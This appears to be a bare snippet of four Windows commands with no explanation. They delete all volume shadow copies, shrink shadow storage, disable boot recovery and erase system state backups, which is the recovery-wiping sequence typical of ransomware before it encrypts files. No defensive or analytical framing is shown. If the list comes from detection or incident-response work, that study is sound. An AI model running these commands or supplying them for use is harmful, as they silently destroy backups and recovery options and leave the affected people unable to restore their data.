Get-WmiObject -Class Win32_ShadowCopy | ForEach-Object { $_.Delete() }
vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB
cmd.exe /c "vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no"
wbadmin delete systemstatebackup -keepversions:0
